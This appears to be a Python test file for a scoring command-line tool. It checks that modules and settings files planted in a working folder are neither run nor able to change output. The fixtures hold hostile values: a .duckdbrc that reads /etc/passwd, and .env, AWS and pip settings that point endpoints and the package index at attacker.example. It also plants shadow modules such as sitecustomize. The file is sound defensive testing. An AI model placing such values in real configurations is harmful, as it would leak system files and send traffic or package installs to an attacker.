"""Nothing that lies beside a sent file, where the person works, is run or changes what comes out.

The folder holds everything that a library or a verb of ours might look up by itself. Verbs run in
it as a person runs them, and every byte they write is that of the same verbs in a clean folder.
"""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from scoring.cli.main import main
from scoring.files.shipped import shipped_folder

pytestmark = pytest.mark.drawn

EXAMPLE = shipped_folder("evidence") / "phu-tho-2026"
VERBS = (
    ["explain", "5.3", "ledger.xlsx"],
    ["score", "ledger.xlsx", "--out", "out"],
    ["ledger", "new", "--criteria", "service-quality-766", "--unit", "xa-a", "--year", "2026",
     "--out", "new.xlsx"],
)  # fmt: skip
MODULES = ("json", "pandas", "lxml", "argparse", "sitecustomize", "usercustomize", "tzdata",
           "numexpr", "scoring_plugins", "matplotlib_backend")  # fmt: skip
# Leaves its name where the test looks for it.
SPOILT = "import pathlib\npathlib.Path({mark!r}).touch()\nraise ImportError('planted')\n"
SETTINGS = {
    "matplotlibrc": "text.usetex: True\nhatch.linewidth: 9\nfigure.dpi: 20\n",
    ".duckdbrc": ".read /etc/passwd\n",
    ".env": "PARINDEX_LANG=en\nAWS_ENDPOINT_URL=http://attacker.example\n",
    ".aws/config": "[default]\nendpoint_url = http://attacker.example\n",
    "dask.yaml": "temporary-directory: /nowhere\n",
    ".config/dask/dask.yaml": "temporary-directory: /nowhere\n",
    "fsspec.json": '{"file": {"protocol": "memory"}}',
    "pyproject.toml": "[tool.parindex]\nlang = 'en'\n",
    "pip.conf": "[global]\nindex-url = http://attacker.example\n",
    "fonts.conf": "<fontconfig><dir>.</dir></fontconfig>",
    "parindex.toml": "lang = 'en'\n",
    "letterhead.toml": "agency = 'KẺ MẠO DANH'\n",
    "logo.png": "no picture",
    "DejaVuSans.ttf": "no font",
    "fonts/DejaVuSans.ttf": "no font",
    "set.toml": 'id = "service-quality-766"\nversion = "mạo"\n',
    "datapackage.json": '{"profile": "data-package", "name": "gia", "resources": []}',
    "tasks.csv": "task_code,task,year\nA,B,2026\n",
    "links.csv": "task_code,item_code,confirmed\nA,1.1,x\n",
    "decisions.csv": "unit_code,item_code,points\nxa-a,1.1,99\n",
    "appraisal.jsonl": '{"kind": "decision"}\n',
    "survey.toml": 'id = "gia"\n',
    "survey-figures.csv": "unit_code,item_code\nxa-a,1.1\n",
    "criteria/la/set.toml": 'id = "la"\n',
    "documents/set.toml": 'id = "service-quality-766"\n',
    "out.lock": "1\tmay-la\t00:00 01/01/2026",
    "journal.lock": "1\tmay-la\t00:00 01/01/2026",
}
DRIVER = """
import json, pathlib, sys
# Whoever opens a connection leaves that behind, as a planted module does.
sys.addaudithook(lambda event, _: event in ("socket.connect", "socket.getaddrinfo")
                 and pathlib.Path("ran-network").touch())
from scoring.cli.main import main
print(json.dumps([main(["--quiet", *verb]) for verb in json.loads(sys.argv[1])]), file=sys.stderr)
"""


def clean(folder):
    folder.mkdir()
    shutil.copy(EXAMPLE / "ledger.xlsx", folder)
    return folder


def planted(folder):
    """A folder as a sender might have filled it."""
    for name in MODULES:
        mark = str(folder / f"ran-{name}")
        (folder / f"{name}.py").write_text(SPOILT.format(mark=mark), encoding="utf-8")
    for name, text in SETTINGS.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def made(folder):
    """What the verbs wrote, by name."""
    names = ("out", "new.xlsx")
    found = [p for p in folder.rglob("*") if p.relative_to(folder).parts[0] in names]
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in found if p.is_file()}


def test_what_lies_beside_a_sent_file_changes_no_byte_and_is_not_run(tmp_path, monkeypatch):
    monkeypatch.chdir(clean(tmp_path / "clean"))
    codes = [main(["--quiet", *verb]) for verb in VERBS]
    sent = planted(clean(tmp_path / "sent"))
    done = subprocess.run(
        [sys.executable, "-P", "-c", DRIVER, json.dumps(VERBS)],
        cwd=sent, capture_output=True, encoding="utf-8", check=False,
    )  # fmt: skip
    assert done.returncode == 0 and json.loads(done.stderr.splitlines()[-1]) == codes, done.stderr
    assert not list(sent.glob("ran-*"))
    expected = made(tmp_path / "clean")
    assert len(expected) > 10 and made(sent) == expected


@pytest.mark.parametrize("spoilt", ["argparse", "pandas"])
def test_module_in_the_working_folder_is_not_run_by_the_package_as_a_program(tmp_path, spoilt):
    (tmp_path / f"{spoilt}.py").write_text(SPOILT.format(mark="ran"), encoding="utf-8")
    package = str(Path(__import__("scoring").__file__).parents[1])
    done = subprocess.run(
        [sys.executable, "-m", "scoring", "criteria", "list", "--quiet"],
        cwd=tmp_path, env=os.environ | {"PYTHONPATH": package}, capture_output=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "ran").exists()
